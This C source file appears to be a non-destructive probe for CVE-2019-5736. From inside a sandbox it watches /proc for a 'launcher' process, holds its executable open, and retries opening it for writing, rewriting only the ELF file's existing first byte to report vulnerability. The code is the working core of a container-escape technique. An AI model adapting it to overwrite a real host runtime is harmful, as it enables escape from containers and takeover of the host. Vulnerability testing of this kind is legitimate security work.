/*
 * CVE-2019-5736: waits inside a sandbox for a process whose program is the launcher, holds that file
 * open, and tries to get it for writing. Prints "held" once it had it, "written" if it could write.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* With the byte that is there, the first of every ELF file: a launcher that can be hurt is not. */
static int write_to(int held) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int file = open(path, O_WRONLY);
    int written = file >= 0 && pwrite(file, "\x7f", 1, 0) == 1;
    if (file >= 0)
        close(file);
    return written;
}

static void try_process(const char *pid, int *told) {
    char path[64], target[256];
    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    target[length > 0 ? length : 0] = '\0';
    int held = strstr(target, "launcher") ? open(path, O_RDONLY) : -1;
    if (held < 0)
        return;
    if (!(*told)++)
        puts("held");
    /* ETXTBSY until the process has ended. */
    for (int i = 0; i < 200 && !write_to(held); i++)
        usleep(100);
    if (write_to(held))
        puts("written");
    close(held);
}

int main(void) {
    int told = 0;
    puts("waiting");
    for (;;) {
        fflush(stdout);
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));)
            if (atoi(entry->d_name) > 2)
                try_process(entry->d_name, &told);
        closedir(processes);
        usleep(100);
    }
}
